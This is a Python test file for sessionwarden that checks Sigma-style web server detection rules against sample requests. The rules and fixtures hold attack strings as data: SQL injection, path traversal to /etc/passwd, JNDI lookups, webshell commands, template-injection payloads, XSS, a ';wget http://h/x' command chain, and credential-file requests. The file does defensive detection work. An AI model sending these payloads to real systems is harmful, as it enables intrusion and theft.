"""Rules in the idiom of public web server rules: they load as they are and match what they are about.

Each stands with requests that it must find and requests that only look like those. None of them was
written for this project's fields.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any, NamedTuple

import msgspec
import pytest
from sigma.collection import SigmaCollection

from sessionwarden.model.event import Event
from sessionwarden.ruleset.compiler.compile import check_rules
from sessionwarden.ruleset.matching.predicates import compile_expression
from sessionwarden.ruleset.matching.selection_index import SelectionIndex
from tests.support.paths import PROJECT

Fields = dict[str, Any]


class WebRule(NamedTuple):
    """A rule's detection, what it finds, and what it spares."""

    title: str
    detection: str
    found: list[Fields]
    spared: list[Fields]
    logsource: str = "category: webserver"
    notes: int = 0


def get(target: str, **fields: Any) -> Fields:
    """A GET of a request target."""
    path, _, query = target.partition("?")
    return {"method": "GET", "path": path, "query": query or None, "status": 200, **fields}


def post(target: str, **fields: Any) -> Fields:
    return {**get(target), "method": "POST", **fields}


CURL = "curl/8.5.0"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0"

RULES = [
    WebRule(
        "SQL Injection Strings In URI",
        """
    selection:
        cs-method: 'GET'
    keywords:
        - '=select '
        - '=select%20'
        - 'union select'
        - 'UNION%20SELECT'
        - '%20or%201=1'
        - 'information_schema.tables'
        - 'sleep(5)'
    filter_main_status:
        sc-status: 404
    condition: selection and keywords and not 1 of filter_main_*
""",
        [
            get("/items?id=1%20UNION%20SELECT%20password"),
            get("/items?id=SLEEP(5)--"),
            get("/a", referer="https://x/?q=information_schema.tables"),
        ],
        [
            get("/items?id=1%20UNION%20SELECT%201", status=404),
            post("/items?id=sleep(5)"),
            get("/unions/select-committee"),
        ],
    ),
    WebRule(
        "Path Traversal",
        """
    selection:
        cs-uri-query|contains:
            - '../../../../../lib/password'
            - '../../../../windows/'
            - '../../../../etc/'
            - '..%252f..%252f..%252fetc%252f'
            - '%2e%2e%2f%2e%2e%2fetc%2f'
            - '..%c0%af..%c0%af'
            - '.%252e/.%252e/'
    condition: selection
""",
        [
            get("/static/../../../../etc/passwd"),
            get("/download?file=../../../../ETC/shadow"),
            get("/files/%2E%2E%2f%2E%2E%2Fetc%2Fpasswd"),
            get("/x?f=..%252F..%252f..%252fetc%252fhosts"),
        ],
        [get("/docs/etc/passwd"), get("/download?file=etc/report.pdf"), {"method": "GET", "status": 400}],
    ),
    WebRule(
        "JNDI Lookup Strings In Web Log",
        """
    keywords:
        - '${jndi:ldap:/'
        - '${jndi:rmi:/'
        - '${jndi:dns:/'
        - '$%7bjndi:'
        - '%24%7bjndi:'
        - '${${lower:j}'
        - 'jndi:${lower:'
    condition: keywords
""",
        [
            get("/", user_agent="${jndi:ldap://198.51.100.7/a}"),
            get("/?x=%24%7Bjndi:rmi%3a//h/a"),
            get("/", referer="https://${${lower:j}ndi:ldap://h}"),
            get("/login", username="${jndi:dns://h/a}"),
        ],
        [get("/docs/jndi"), get("/?x=$jndi"), get("/", user_agent=BROWSER)],
    ),
    WebRule(
        "Webshell Upload And Use",
        """
    selection_post:
        cs-method: 'POST'
        cs-uri-stem|contains:
            - '/uploads/'
            - '/wp-content/'
        cs-uri-stem|endswith:
            - '.php'
            - '.jsp'
            - '.aspx'
    selection_use:
        cs-uri-query|contains:
            - '=whoami'
            - '=net%20user'
            - '=cmd%20/c%20'
    filter_main_error:
        sc-status|startswith: '4'
    condition: 1 of selection_* and not 1 of filter_main_*
""",
        [post("/uploads/2025/a.PHP"), get("/x.jsp?cmd=whoami"), get("/x.aspx?c=cmd%20/c%20dir")],
        [
            get("/uploads/2025/a.php"),
            post("/uploads/2025/photo.png"),
            post("/uploads/a.php", status=403),
            get("/x.jsp?cmd=whoami", status=404),
        ],
    ),
    WebRule(
        "Server Side Template Injection Strings",
        """
    select_method:
        cs-method: 'GET'
    keywords:
        - '={{'
        - '=%7B%7B'
        - '=${'
        - '=$%7B'
        - '=<%='
        - '=%3C%25='
        - 'freemarker.template.utility.Execute'
        - '__import__("subprocess").Popen('
    filter:
        sc-status: 404
    condition: select_method and keywords and not filter
""",
        [
            get("/render?name={{7*7}}"),
            get("/render?name=%7b%7B7*7"),
            get("/r?x=freemarker.template.utility.Execute"),
        ],
        [get("/render?name=seven"), get("/render?name={{7*7}}", status=404), post("/render?name={{7*7}}")],
    ),
    WebRule(
        "Cross Site Scripting Strings",
        """
    select_method:
        cs-method: 'GET'
    keywords:
        - '=<script>'
        - '=%3Cscript%3E'
        - '<svg onload='
        - '%3Cimg%20src='
        - 'onerror='
        - 'javascript:alert'
    filter:
        sc-status:
            - 404
            - 400
    condition: select_method and keywords and not filter
""",
        [get("/s?q=<SCRIPT>alert(1)"), get("/s?q=%3cimg%20src=x%20onerror=a")],
        [get("/s?q=script"), get("/s?q=<script>", status=400), get("/javascript/alert")],
    ),
    WebRule(
        "Scanner User Agents",
        """
    selection:
        cs-user-agent|contains:
            - 'sqlmap'
            - 'Nikto'
            - 'WPScan v'
            - 'Nmap Scripting Engine'
            - 'Acunetix'
            - '(compatible; Nessus'
    filter_own:
        c-ip|cidr: 192.0.2.0/24
    condition: selection and not filter_own
""",
        [
            get("/", user_agent="sqlmap/1.8#stable (https://sqlmap.org)", source_ip="198.51.100.1"),
            get("/", user_agent="Mozilla/5.00 (nikto/2.5)"),
        ],
        [
            get("/", user_agent=BROWSER, source_ip="198.51.100.1"),
            get("/", user_agent="sqlmap/1.8", source_ip="192.0.2.77"),
            get("/?tool=sqlmap", user_agent=BROWSER),
        ],
        logsource="category: webserver\n    product: apache\n    service: access",
    ),
    WebRule(
        "Sensitive Files Requested",
        """
    selection:
        cs-uri-stem|endswith:
            - '/.env'
            - '/.git/config'
            - '/.aws/credentials'
            - '/id_rsa'
            - '/web.config'
            - '.sql.gz'
    success:
        sc-status:
            - 200
            - 206
    condition: selection and success
""",
        [get("/app/.env"), get("/.GIT/config", status=206), get("/backup/db.sql.gz")],
        [get("/app/.env", status=404), get("/environment"), get("/?f=/.env")],
    ),
    WebRule(
        "Source Repository Enumeration",
        """
    keywords:
        - '.git/'
        - '.svn/entries'
    condition: keywords
""",
        [get("/.git/HEAD"), get("/x?f=/.svn/entries")],
        [get("/git/HEAD"), get("/.github/workflows")],
    ),
    WebRule(
        "Command Execution In Query With All Parts",
        """
    selection:
        cs-uri-query|contains|all:
            - '/cgi-bin/'
            - ';'
            - 'wget%20http'
    selection_re:
        cs-uri-query|re: '(?i)[?&](cmd|exec|shell)=[a-z0-9%+]{3,}'
    condition: selection or selection_re
""",
        [get("/cgi-bin/status?a=1;wget%20http://h/x"), get("/run?CMD=id%20-a"), get("/run?a=b&exec=uname")],
        [
            get("/cgi-bin/status?a=wget%20http://h/x"),
            get("/run?cmd=l"),
            get("/run?command=uname"),
            get("/cmd=uname"),
        ],
    ),
    WebRule(
        "Exchange Proxy Abuse With Status And Cookie",
        """
    keywords:
        '|all':
            - 'POST'
            - 200
            - '/autodiscover/autodiscover.json'
    selection_cookie:
        cs-cookie|contains: 'Email=autodiscover/'
    condition: keywords or selection_cookie
""",
        [post("/autodiscover/autodiscover.json?@foo.com/mapi/nspi/")],
        [
            get("/autodiscover/autodiscover.json"),
            post("/autodiscover/autodiscover.json", status=401),
            get("/", referer="Email=autodiscover/"),
        ],
        notes=1,
    ),
    WebRule(
        "Exploit Of A Named Product",
        """
    selection:
        cs-method: 'POST'
        cs-uri-query: '*/ws_utc/resources/setting/*.jsp*'
    filter_optional_health:
        cs-uri-query|endswith: '/health.jsp'
        s-ip: '10.0.0.1'
    filter_optional_empty:
        cs-uri-query: null
        cs-user-agent: '-'
    condition: selection and not 1 of filter_optional_*
""",
        [
            post("/ws_utc/resources/setting/keystore.JSP?x=1", user_agent=CURL),
            post("/a/ws_utc/resources/setting/x/health.jsp", user_agent=CURL),
        ],
        [
            get("/ws_utc/resources/setting/keystore.jsp"),
            post("/ws_utc/resources/setting/key", user_agent=CURL),
            post("/ws_utc/resources/setting/a.jsp"),
        ],
        notes=1,
    ),
    WebRule(
        "Tool Download By Command Line Client",
        """
    selection:
        cs-user-agent|re: '^(curl|Wget|python-requests)/[0-9.]+'
        cs-uri-stem|re|i: '\\.(sh|elf|ps1)$'
    condition: all of selection*
""",
        [get("/t/install.SH", user_agent=CURL), get("/a.elf?x", user_agent="python-requests/2.32")],
        [get("/t/install.sh", user_agent=BROWSER), get("/t/install.shtml", user_agent=CURL)],
    ),
    WebRule(
        "Referer Equal To Host Of Another",
        """
    selection:
        cs-referer|startswith:
            - 'http://'
            - 'https://'
        cs-method|neq: 'GET'
    filter_main_own:
        cs-referer|fieldref|contains: cs-host
    condition: selection and not filter_main_own
""",
        [post("/pay", host="api.example.com", referer="https://evil.example.net/")],
        [
            post("/pay", host="api.example.com", referer="https://API.example.com/cart"),
            get("/pay", host="api.example.com", referer="https://evil.example.net/"),
            post("/pay", host="api.example.com"),
        ],
    ),
]


def text_of(number: int, rule: WebRule) -> str:
    return (
        f"title: {rule.title}\nid: 00000000-0000-4000-8000-{number:012}\nstatus: test\n"
        f"description: Detects {rule.title.lower()}\nreferences:\n    - https://example.com/{number}\n"
        f"author: Somebody\ndate: 2025-01-31\ntags:\n    - attack.initial-access\n    - attack.t1190\n"
        f"logsource:\n    {rule.logsource}\ndetection:{rule.detection}"
        "falsepositives:\n    - Unknown\nlevel: high\n"
    )


def event(fields: Fields) -> Event:
    return msgspec.convert({"id": "e", "time": 1, "source": "api_access", **fields}, Event)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.title)
def test_a_public_web_rule_finds_what_it_is_about_and_nothing_like_it(tmp_path: Path, rule: WebRule) -> None:
    (tmp_path / "rule.yml").write_text(text_of(1, rule))
    checked = check_rules([tmp_path])
    assert len(checked.notes) == rule.notes
    (selection,) = checked.ruleset.rules[0].selections
    matches = compile_expression(selection.expression)
    assert [fields for fields in rule.found if not matches(event(fields))] == []
    assert [fields for fields in rule.spared if matches(event(fields))] == []


def test_the_reference_says_how_much_each_rule_was_tried_on() -> None:
    page = (PROJECT / "docs" / "reference" / "rules.md").read_text()
    rows = [f"| {rule.title} | {len(rule.found)} | {len(rule.spared)} |" for rule in RULES]
    assert [row for row in rows if row not in page] == []


def test_the_same_rules_are_found_through_the_index(tmp_path: Path) -> None:
    for number, rule in enumerate(RULES):
        (tmp_path / f"{number:02}.yml").write_text(text_of(number, rule))
    rules = check_rules([tmp_path]).ruleset.rules
    index = SelectionIndex([rule.selections[0].expression for rule in rules])
    for number, rule in enumerate(RULES):
        assert [fields for fields in rule.found if number not in index.candidates(event(fields))] == []


def test_sigmas_own_parser_reads_the_same_rules(tmp_path: Path) -> None:
    for number, rule in enumerate(RULES):
        (tmp_path / f"{number}.yml").write_text(text_of(number, rule))
    collection = SigmaCollection.load_ruleset([tmp_path])
    assert len(collection.rules) == len(RULES)
    assert not collection.errors


def test_a_field_that_only_other_servers_log_is_noted_at_its_place(tmp_path: Path) -> None:
    (rule,) = (rule for rule in RULES if "cs-cookie" in rule.detection)
    (tmp_path / "rule.yml").write_text(text_of(1, rule))
    (note,) = check_rules([tmp_path]).notes
    assert str(note).endswith(
        "detection.selection_cookie.cs-cookie|contains: no log of API Gateway has cs-cookie: "
        "in every event it is missing"
    )
